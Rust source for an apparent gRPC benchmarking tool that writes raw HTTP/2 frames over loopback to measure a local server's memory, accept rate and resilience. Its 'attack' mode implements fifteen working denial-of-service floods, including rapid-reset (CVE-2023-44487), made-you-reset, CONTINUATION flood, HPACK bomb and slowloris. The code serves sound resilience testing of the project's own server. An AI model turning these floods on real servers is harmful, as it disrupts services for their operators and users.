//! The load side of `cargo xtask scale` and `cargo xtask attack`: raw HTTP/2 written byte by
//! byte over loopback TCP against a `grpc_bench server STACK PORT` (Courier or tonic) whose
//! process id it is given, so that both servers meet exactly the same bytes.
//!
//! ```text
//! loadgen scale  PORT PID CONNS STREAM_CONNS STREAMS_PER_CONN
//! loadgen attack KIND PORT PID SECONDS
//! loadgen backends N
//! loadgen subchannels TARGET SECONDS
//! ```
//!
//! `scale` opens CONNS connections (preface and SETTINGS exchanged both ways, then nothing),
//! prints `idle ...` with the server's RSS growth per connection and the accept rate, waits for
//! a line on standard input (the caller measures a unary call's latency meanwhile), opens
//! STREAMS_PER_CONN streams (request HEADERS, no DATA) on each of the first STREAM_CONNS
//! connections, prints `streams ...`, waits for another line and exits.
//!
//! `attack` runs attack KIND (see [`KINDS`]) at full speed for SECONDS and prints one line:
//! `rate=R unit=U conns=C cpu_s=S peak_rss_kib=P rss_end_kib=E alive=1`, where R is the
//! attack's units (frames, streams, bytes, connections) per second the server took, C the
//! connections it used (a new one each time the server closed the last), S the server's CPU
//! seconds (user + system) during the attack, P its peak RSS (VmHWM) and E its RSS at the end.
//! Everything stops by itself: each attack ends after SECONDS, each socket has timeouts.
//!
//! `backends` serves `bench.Bench` (Courier) on N loopback ports in one process, prints the
//! `ipv4:` target that lists them all, and serves until its standard input closes.
//! `subchannels` measures one round_robin Channel to such a target from the client's side:
//! `subchannels n=N rss_kib_per_subchannel=M p50_us=A p99_us=B calls_per_s=C` — the client
//! process's RSS growth per subchannel once every subchannel has carried calls, and one small
//! unary call after another for SECONDS (each call picks a subchannel).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

/// The `bench.Bench` service and messages (shared with grpc_bench; only Courier's side is
/// used here).
#[path = "grpc_bench/service.rs"]
#[allow(dead_code)]
mod service;

// ---- HTTP/2 frames, written by hand (RFC 9113 §4.1) ----

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(ty);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK string literal, not Huffman-coded, with a length under 127.
fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0, 7, s.len());
    out.extend_from_slice(s);
}

/// An HPACK integer (RFC 7541 §5.1) with an `n`-bit prefix after the bits in `first`.
fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A gRPC request's field block that uses no dynamic table (static indices and literals
/// without indexing), so that the same bytes are valid on every stream of every connection.
fn request_block(path: &str) -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http
    b.push(0x04); // literal without indexing, name :path (static 4)
    hpack_str(&mut b, path.as_bytes());
    b.push(0x01); // literal without indexing, name :authority (static 1)
    hpack_str(&mut b, b"localhost");
    b.push(0x00);
    hpack_str(&mut b, b"content-type");
    hpack_str(&mut b, b"application/grpc");
    b.push(0x00);
    hpack_str(&mut b, b"te");
    hpack_str(&mut b, b"trailers");
    b
}

const UNARY: &str = "/bench.Bench/Unary";
const STREAM: &str = "/bench.Bench/Stream";

/// The client's connection preface, an empty SETTINGS frame, and (sent blindly: the server's
/// SETTINGS is its first frame, so it is in flight by now) the acknowledgment of the server's.
fn client_preface(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let mut payload = Vec::new();
    for (id, v) in settings {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&v.to_be_bytes());
    }
    frame(&mut out, SETTINGS, 0, 0, &payload);
    frame(&mut out, SETTINGS, ACK, 0, &[]);
    out
}

// ---- the server process, seen from /proc ----

fn proc_status(pid: u32, key: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with(key))
                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
        })
        .unwrap_or(0)
}

/// Resident set size in KiB.
fn rss_kib(pid: u32) -> u64 {
    proc_status(pid, "VmRSS:")
}

/// User + system CPU seconds the process has used (clock ticks of 1/100 s on Linux).
fn cpu_secs(pid: u32) -> f64 {
    let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
        return 0.0;
    };
    // Fields after the command name (which may hold spaces) in parentheses.
    let rest = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
    let f: Vec<&str> = rest.split_whitespace().collect();
    let tick = |i: usize| f.get(i).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
    // utime and stime are fields 14 and 15 of stat(5); field 3 is rest[0].
    (tick(11) + tick(12)) as f64 / 100.0
}

fn alive(pid: u32) -> bool {
    std::path::Path::new(&format!("/proc/{pid}")).exists()
        && !std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .unwrap_or_default()
            .rsplit_once(')')
            .is_some_and(|(_, r)| r.trim_start().starts_with('Z'))
}

// ---- scale ----

/// Reads frames until the server's SETTINGS (not an acknowledgment) has arrived.
async fn await_server_settings(s: &mut tokio::net::TcpStream) -> std::io::Result<()> {
    use tokio::io::AsyncReadExt;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let mut at = 0;
        while buf.len() >= at + 9 {
            let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
            if buf[at + 3] == SETTINGS && buf[at + 4] & ACK == 0 {
                return Ok(());
            }
            at += 9 + len;
        }
        let n = s.read(&mut chunk).await?;
        if n == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        buf.extend_from_slice(&chunk[..n]);
    }
}

/// Handshakes `scale` keeps in flight: under 128, the accept backlog of a listener bound with
/// std's default (tonic's), so that the accept rate measures the server's handshakes rather
/// than SYNs dropped by a full backlog and retried a second later.
const HANDSHAKES_IN_FLIGHT: usize = 100;

fn wait_for_line() {
    let mut line = String::new();
    let _ = std::io::stdin().read_line(&mut line);
}

fn scale(
    port: u16,
    pid: u32,
    conns: usize,
    stream_conns: usize,
    per_conn: usize,
) -> Result<(), String> {
    use tokio::io::AsyncWriteExt;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())?;
    rt.block_on(async move {
        let base = rss_kib(pid);
        let preface = Arc::new(client_preface(&[]));
        let limit = Arc::new(tokio::sync::Semaphore::new(HANDSHAKES_IN_FLIGHT));
        let start = Instant::now();
        let mut tasks = Vec::with_capacity(conns);
        for _ in 0..conns {
            let (preface, limit) = (preface.clone(), limit.clone());
            tasks.push(tokio::spawn(async move {
                let _permit = limit.acquire().await;
                let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port)).await?;
                s.write_all(&preface).await?;
                tokio::time::timeout(Duration::from_secs(20), await_server_settings(&mut s))
                    .await
                    .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))??;
                std::io::Result::Ok(s)
            }));
        }
        let mut held = Vec::with_capacity(conns);
        for t in tasks {
            held.push(
                t.await
                    .map_err(|e| e.to_string())?
                    .map_err(|e| format!("connection {}: {e}", held.len()))?,
            );
        }
        let accept_secs = start.elapsed().as_secs_f64();
        // Let the server settle (its acknowledgments of our SETTINGS are in by now).
        tokio::time::sleep(Duration::from_secs(2)).await;
        let idle = rss_kib(pid);
        println!(
            "idle conns={conns} base_kib={base} rss_kib={idle} per_conn_kib={:.2} accept_per_s={:.0}",
            (idle as f64 - base as f64) / conns as f64,
            conns as f64 / accept_secs
        );
        wait_for_line();
        let mut block = Vec::new();
        let rb = request_block(UNARY);
        for s in held.iter_mut().take(stream_conns) {
            block.clear();
            for k in 0..per_conn {
                frame(&mut block, HEADERS, END_HEADERS, 1 + 2 * k as u32, &rb);
            }
            s.write_all(&block).await.map_err(|e| e.to_string())?;
        }
        tokio::time::sleep(Duration::from_secs(3)).await;
        let with_streams = rss_kib(pid);
        let streams = stream_conns * per_conn;
        println!(
            "streams streams={streams} rss_kib={with_streams} per_stream_kib={:.2}",
            (with_streams as f64 - idle as f64) / streams as f64
        );
        wait_for_line();
        drop(held);
        Ok(())
    })
}

// ---- attacks ----

/// Every attack `loadgen attack` knows, with what one unit of its rate is.
const KINDS: &[(&str, &str)] = &[
    ("rapid-reset", "streams"),
    ("made-you-reset", "streams"),
    ("continuation-flood", "frames"),
    ("hpack-bomb", "blocks"),
    ("ping-flood", "frames"),
    ("settings-flood", "frames"),
    ("empty-frame-flood", "frames"),
    ("window-update-flood", "frames"),
    ("zero-window", "streams"),
    ("slowloris-preface", "conns"),
    ("slowloris-headers", "conns"),
    ("huge-headers", "blocks"),
    ("tiny-data", "frames"),
    ("stream-exhaustion", "streams"),
    ("oversized-message", "streams"),
];

/// Connections of the `zero-window` attack. Each one can make a server hold its per-stream
/// send buffer on every stream it allows — 100 × 1 MiB on Courier, more on tonic, measured
/// at about 6 GB for 64 connections on either — so the row keeps to a total this shared
/// machine can spare.
const ZERO_WINDOW_CONNS: usize = 16;

struct Counters {
    units: AtomicU64,
    conns: AtomicU64,
    stop: AtomicBool,
}

/// Connects and sends the client preface (with `settings`); on loopback the connect is
/// immediate, and every socket gets timeouts so that nothing here can hang.
fn connect(port: u16, settings: &[(u16, u32)]) -> std::io::Result<TcpStream> {
    let mut s = TcpStream::connect(("127.0.0.1", port))?;
    s.set_write_timeout(Some(Duration::from_secs(2)))?;
    s.set_read_timeout(Some(Duration::from_secs(2)))?;
    s.set_nodelay(true)?;
    s.write_all(&client_preface(settings))?;
    Ok(s)
}

/// Reads and drops whatever the server sends on `s` until it closes or `stop` is set.
fn drain(s: &TcpStream, counters: Arc<Counters>) -> std::thread::JoinHandle<()> {
    let mut r = s.try_clone().expect("clone socket");
    std::thread::spawn(move || {
        let mut buf = vec![0u8; 64 * 1024];
        while !counters.stop.load(Ordering::Relaxed) {
            match r.read(&mut buf) {
                Ok(0) => break,
                Ok(_) => {}
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
                Err(_) => break,
            }
        }
    })
}

/// A flood: on one connection after another (a new one whenever the server closes the last),
/// writes the batches `next` makes as fast as the socket takes them. `next(stream_id_base)`
/// returns a batch and how many units it holds; `read` says whether the server's frames are
/// read (and dropped) meanwhile — a ping or settings flood's point is not to read them.
fn flood(
    port: u16,
    counters: Arc<Counters>,
    settings: &[(u16, u32)],
    read: bool,
    mut next: impl FnMut(&mut u32, &mut Vec<u8>) -> u64,
) {
    let mut batch = Vec::with_capacity(64 * 1024);
    while !counters.stop.load(Ordering::Relaxed) {
        let Ok(mut s) = connect(port, settings) else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        counters.conns.fetch_add(1, Ordering::Relaxed);
        let reader = read.then(|| drain(&s, counters.clone()));
        let mut stream_id = 1u32;
        while !counters.stop.load(Ordering::Relaxed) {
            batch.clear();
            let units = next(&mut stream_id, &mut batch);
            if s.write_all(&batch).is_err() {
                break;
            }
            counters.units.fetch_add(units, Ordering::Relaxed);
            if stream_id > 0x7fff_0000 {
                break;
            }
        }
        let _ = s.shutdown(std::net::Shutdown::Both);
        if let Some(r) = reader {
            let _ = r.join();
        }
    }
}

/// A gRPC message prefix declaring `len` bytes.
fn grpc_prefix(len: u32) -> [u8; 5] {
    let l = len.to_be_bytes();
    [0, l[0], l[1], l[2], l[3]]
}

/// Holds up to `max` connections open, each made by `open` (which returns the socket and the
/// units it accounts for), re-opening those the server closes; `tick(socket, n)` is called
/// every second on every open socket, `n` counting that socket's earlier ticks (a slowloris
/// trickles its next byte there).
fn hold(
    port: u16,
    counters: Arc<Counters>,
    max: usize,
    open: impl Fn(u16) -> std::io::Result<(TcpStream, u64)>,
    tick: impl Fn(&mut TcpStream, usize) -> std::io::Result<()>,
) {
    let mut socks: Vec<(TcpStream, usize)> = Vec::new();
    let mut last_tick = Instant::now();
    while !counters.stop.load(Ordering::Relaxed) {
        while socks.len() < max && !counters.stop.load(Ordering::Relaxed) {
            match open(port) {
                Ok((s, units)) => {
                    s.set_nonblocking(true).ok();
                    counters.conns.fetch_add(1, Ordering::Relaxed);
                    counters.units.fetch_add(units, Ordering::Relaxed);
                    socks.push((s, 0));
                }
                Err(_) => break,
            }
        }
        if last_tick.elapsed() >= Duration::from_secs(1) {
            last_tick = Instant::now();
            let mut buf = [0u8; 4096];
            socks.retain_mut(|(s, ticks)| {
                // A closed socket reads 0 bytes (or fails); drop it and open another.
                loop {
                    match s.read(&mut buf) {
                        Ok(0) => return false,
                        Ok(_) => continue,
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                        Err(_) => return false,
                    }
                }
                *ticks += 1;
                tick(s, *ticks - 1).is_ok()
            });
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn attack(kind: &str, port: u16, pid: u32, seconds: f64) -> Result<(), String> {
    let unit = KINDS
        .iter()
        .find(|(k, _)| *k == kind)
        .map(|(_, u)| *u)
        .ok_or_else(|| format!("no attack {kind}"))?;
    let counters = Arc::new(Counters {
        units: AtomicU64::new(0),
        conns: AtomicU64::new(0),
        stop: AtomicBool::new(false),
    });
    let cpu0 = cpu_secs(pid);
    let start = Instant::now();
    let c = counters.clone();
    let kind_owned = kind.to_owned();
    let worker = std::thread::spawn(move || run_attack(&kind_owned, port, c));
    while start.elapsed().as_secs_f64() < seconds {
        std::thread::sleep(Duration::from_millis(50));
    }
    counters.stop.store(true, Ordering::Relaxed);
    let elapsed = start.elapsed().as_secs_f64();
    let cpu = cpu_secs(pid) - cpu0;
    let (peak, end) = (proc_status(pid, "VmHWM:"), rss_kib(pid));
    let _ = worker.join();
    println!(
        "rate={:.0} unit={unit} conns={} cpu_s={cpu:.2} peak_rss_kib={peak} rss_end_kib={end} alive={}",
        counters.units.load(Ordering::Relaxed) as f64 / elapsed,
        counters.conns.load(Ordering::Relaxed),
        u8::from(alive(pid)),
    );
    Ok(())
}

fn run_attack(kind: &str, port: u16, c: Arc<Counters>) {
    let unary = request_block(UNARY);
    match kind {
        // CVE-2023-44487: open a stream, reset it at once, again and again.
        "rapid-reset" => flood(port, c, &[], true, |id, b| {
            for _ in 0..64 {
                frame(b, HEADERS, END_HEADERS, *id, &unary);
                frame(b, RST_STREAM, 0, *id, &8u32.to_be_bytes()); // CANCEL
                *id += 2;
            }
            64
        }),
        // CVE-2025-8671: open a stream and make the server reset it (a WINDOW_UPDATE of 0 on
        // a stream is a stream error, RFC 9113 §6.9).
        "made-you-reset" => flood(port, c, &[], true, |id, b| {
            for _ in 0..64 {
                frame(b, HEADERS, END_HEADERS, *id, &unary);
                frame(b, WINDOW_UPDATE, 0, *id, &0u32.to_be_bytes());
                *id += 2;
            }
            64
        }),
        // HEADERS without END_HEADERS, then CONTINUATIONs of new header fields forever.
        "continuation-flood" => {
            let mut fields = Vec::new();
            while fields.len() < 16_000 {
                fields.push(0x00);
                hpack_str(&mut fields, b"x-flood");
                hpack_str(&mut fields, &[b'a'; 100]);
            }
            flood(port, c, &[], true, move |id, b| {
                if *id == 1 {
                    frame(b, HEADERS, 0, 1, &unary);
                    *id = 3;
                }
                for _ in 0..4 {
                    frame(b, CONTINUATION, 0, 1, &fields);
                }
                4
            })
        }
        // One 4 KB field put in the dynamic table, then field blocks that name it again and
        // again (one byte each): 16,000 bytes of block decode to some 65 MB of fields.
        "hpack-bomb" => {
            let mut insert = Vec::new();
            insert.push(0x40); // literal with incremental indexing, new name
            hpack_str(&mut insert, b"x-bomb");
            let big = vec![b'b'; 4000];
            hpack_int(&mut insert, 0, 7, big.len());
            insert.extend_from_slice(&big);
            let mut bomb = unary.clone();
            bomb.extend(std::iter::repeat_n(0xbe, 16_000)); // indexed field 62
            flood(port, c, &[], true, move |id, b| {
                if *id == 1 {
                    let mut blk = unary.clone();
                    blk.extend_from_slice(&insert);
                    frame(b, HEADERS, END_HEADERS | END_STREAM, 1, &blk);
                    *id = 3;
                }
                for _ in 0..4 {
                    frame(b, HEADERS, END_HEADERS | END_STREAM, *id, &bomb);
                    *id += 2;
                }
                4
            })
        }
        "ping-flood" => flood(port, c, &[], false, |_, b| {
            for i in 0..512u64 {
                frame(b, PING, 0, 0, &i.to_be_bytes());
            }
            512
        }),
        "settings-flood" => flood(port, c, &[], false, |_, b| {
            for _ in 0..512 {
                frame(b, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]); // INITIAL_WINDOW_SIZE
            }
            512
        }),
        // CVE-2019-9518: a stream, then empty DATA frames without END_STREAM.
        "empty-frame-flood" => flood(port, c, &[], true, |id, b| {
            if *id == 1 {
                frame(b, HEADERS, END_HEADERS, 1, &unary);
                *id = 3;
            }
            for _ in 0..512 {
                frame(b, DATA, 0, 1, &[]);
            }
            512
        }),
        // WINDOW_UPDATE frames of 1 octet on the connection (each valid on its own).
        "window-update-flood" => flood(port, c, &[], true, |_, b| {
            for _ in 0..512 {
                frame(b, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes());
            }
            512
        }),
        // A slow reader: INITIAL_WINDOW_SIZE 0 and 1 MiB messages asked for on every stream
        // the server allows, never read; new connections until the time is up.
        "zero-window" => {
            let stream_block = request_block(STREAM);
            // StreamRequest { count: 64, size: 1 MiB }
            let mut req = vec![0x08, 64, 0x10];
            let mut v = 1u32 << 20;
            while v >= 128 {
                req.push((v % 128) as u8 | 0x80);
                v /= 128;
            }
            req.push(v as u8);
            let mut body = grpc_prefix(req.len() as u32).to_vec();
            body.extend_from_slice(&req);
            hold(
                port,
                c,
                ZERO_WINDOW_CONNS,
                move |port| {
                    let mut s = connect(port, &[(0x4, 0)])?;
                    let mut b = Vec::new();
                    for k in 0..100u32 {
                        frame(&mut b, HEADERS, END_HEADERS, 1 + 2 * k, &stream_block);
                        frame(&mut b, DATA, END_STREAM, 1 + 2 * k, &body);
                    }
                    s.write_all(&b)?;
                    Ok((s, 100))
                },
                |_, _| Ok(()),
            )
        }
        // Connections that send the preface one byte a second (24 bytes: it never completes
        // within a run).
        "slowloris-preface" => hold(
            port,
            c,
            2000,
            |port| {
                let mut s = TcpStream::connect(("127.0.0.1", port))?;
                s.write_all(&PREFACE[..1])?;
                Ok((s, 1))
            },
            |s, n| match PREFACE.get(n + 1) {
                Some(b) => s.write_all(&[*b]),
                None => Ok(()),
            },
        ),
        // Connections that announce a 16 KB HEADERS frame and send it a byte a second.
        "slowloris-headers" => hold(
            port,
            c,
            2000,
            |port| {
                let mut s = connect(port, &[])?;
                s.write_all(&[0x00, 0x40, 0x00, HEADERS, END_HEADERS, 0, 0, 0, 1])?;
                Ok((s, 1))
            },
            |s, _| s.write_all(&[0x00]),
        ),
        // Field blocks of about 1 MiB (64 frames of distinct fields) on stream after stream.
        "huge-headers" => {
            let mut fields = Vec::new();
            let mut i = 0u32;
            while fields.len() < 16_000 {
                fields.push(0x00);
                hpack_str(&mut fields, format!("x-h{i}").as_bytes());
                hpack_str(&mut fields, &[b'v'; 100]);
                i += 1;
            }
            flood(port, c, &[], true, move |id, b| {
                frame(b, HEADERS, 0, *id, &unary);
                for k in 0..64 {
                    let flags = if k == 63 { END_HEADERS } else { 0 };
                    frame(b, CONTINUATION, flags, *id, &fields);
                }
                *id += 2;
                1
            })
        }
        // One stream whose message (declared 4 MB - 1, the default limit) comes a byte per
        // DATA frame.
        "tiny-data" => flood(port, c, &[], true, |id, b| {
            if *id == 1 {
                frame(b, HEADERS, END_HEADERS, 1, &unary);
                frame(b, DATA, 0, 1, &grpc_prefix((4 << 20) - 1));
                *id = 3;
            }
            for _ in 0..1024 {
                frame(b, DATA, 0, 1, &[0]);
            }
            1024
        }),
        // Every stream the server allows, on as many connections as it takes, held open
        // with a message never finished.
        "stream-exhaustion" => hold(
            port,
            c,
            1000,
            move |port| {
                let mut s = connect(port, &[])?;
                let mut b = Vec::new();
                for k in 0..100u32 {
                    frame(&mut b, HEADERS, END_HEADERS, 1 + 2 * k, &unary);
                    frame(&mut b, DATA, 0, 1 + 2 * k, &grpc_prefix(1000));
                }
                s.write_all(&b)?;
                Ok((s, 100))
            },
            |_, _| Ok(()),
        ),
        // Streams whose message prefix declares 4 GiB - 1 bytes, followed by 16 KB of it.
        "oversized-message" => flood(port, c, &[], true, |id, b| {
            let chunk = vec![0u8; 16_000];
            for _ in 0..8 {
                frame(b, HEADERS, END_HEADERS, *id, &unary);
                frame(b, DATA, 0, *id, &grpc_prefix(u32::MAX));
                frame(b, DATA, 0, *id, &chunk);
                *id += 2;
            }
            8
        }),
        _ => unreachable!("checked in attack()"),
    }
}

// ---- one Channel, many subchannels ----

fn backends(n: usize) -> Result<(), String> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())?;
    rt.block_on(async move {
        let mut addrs = Vec::with_capacity(n);
        let mut tasks = Vec::with_capacity(n);
        for _ in 0..n {
            let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
                .await
                .map_err(|e| e.to_string())?;
            addrs.push(
                listener
                    .local_addr()
                    .map_err(|e| e.to_string())?
                    .to_string(),
            );
            let server = courier_rpc::Server::builder()
                .add_service(service::cb::bench_rpc::BenchServer::new(
                    service::CourierBench,
                ))
                .build();
            tasks.push(tokio::spawn(server.serve(listener)));
        }
        println!("ipv4:{}", addrs.join(","));
        // Serve until the caller closes our standard input.
        tokio::task::spawn_blocking(|| {
            let mut sink = String::new();
            while std::io::stdin().read_line(&mut sink).is_ok_and(|n| n > 0) {}
        })
        .await
        .map_err(|e| e.to_string())?;
        for t in tasks {
            t.abort();
        }
        Ok(())
    })
}

fn subchannels(target: &str, seconds: f64) -> Result<(), String> {
    let n = target.matches(',').count() + 1;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())?;
    let me = std::process::id();
    rt.block_on(async move {
        let msg = service::cb::Msg {
            payload: bytes::Bytes::from_static(b"12345678"),
            ..Default::default()
        };
        let before = rss_kib(me);
        let channel = courier_rpc::Channel::builder(target)
            .load_balancing(courier_rpc::LbPolicy::RoundRobin)
            .build();
        let client = service::cb::bench_rpc::BenchClient::new(channel);
        // Every subchannel carries calls (round_robin rotates over the ready ones; keep
        // calling until as many calls as subchannels have gone after a second of them).
        let warm = Instant::now();
        while warm.elapsed() < Duration::from_secs(2) {
            client.unary(msg.clone()).await.map_err(|e| e.to_string())?;
        }
        for _ in 0..n * 2 {
            client.unary(msg.clone()).await.map_err(|e| e.to_string())?;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
        let after = rss_kib(me);
        let mut lat = Vec::new();
        let start = Instant::now();
        while start.elapsed().as_secs_f64() < seconds {
            let t = Instant::now();
            client.unary(msg.clone()).await.map_err(|e| e.to_string())?;
            lat.push(t.elapsed());
        }
        let calls_per_s = lat.len() as f64 / start.elapsed().as_secs_f64();
        lat.sort();
        let p = |q: f64| lat[((lat.len() as f64 * q) as usize).min(lat.len() - 1)];
        println!(
            "subchannels n={n} rss_kib_per_subchannel={:.2} p50_us={:.1} p99_us={:.1} calls_per_s={calls_per_s:.0}",
            (after as f64 - before as f64) / n as f64,
            p(0.5).as_secs_f64() * 1e6,
            p(0.99).as_secs_f64() * 1e6,
        );
        Ok(())
    })
}

fn usage() -> String {
    let kinds: Vec<&str> = KINDS.iter().map(|(k, _)| *k).collect();
    format!(
        "usage: loadgen scale PORT PID CONNS STREAM_CONNS STREAMS_PER_CONN\n       \
         loadgen attack KIND PORT PID SECONDS   (KIND: {})\n       \
         loadgen backends N\n       \
         loadgen subchannels TARGET SECONDS",
        kinds.join(", ")
    )
}

fn run() -> Result<(), String> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let num = |i: usize| -> Result<u64, String> {
        args.get(i).and_then(|a| a.parse().ok()).ok_or_else(usage)
    };
    match args.first().map(String::as_str) {
        Some("scale") => scale(
            num(1)? as u16,
            num(2)? as u32,
            num(3)? as usize,
            num(4)? as usize,
            num(5)? as usize,
        ),
        Some("attack") => {
            let kind = args.get(1).ok_or_else(usage)?;
            let secs: f64 = args.get(4).and_then(|a| a.parse().ok()).ok_or_else(usage)?;
            attack(kind, num(2)? as u16, num(3)? as u32, secs)
        }
        Some("backends") => backends(num(1)? as usize),
        Some("subchannels") => {
            let target = args.get(1).ok_or_else(usage)?;
            let secs: f64 = args.get(2).and_then(|a| a.parse().ok()).ok_or_else(usage)?;
            subchannels(target, secs)
        }
        _ => Err(usage()),
    }
}

fn main() {
    if let Err(e) = run() {
        eprintln!("loadgen: {e}");
        std::process::exit(1);
    }
}
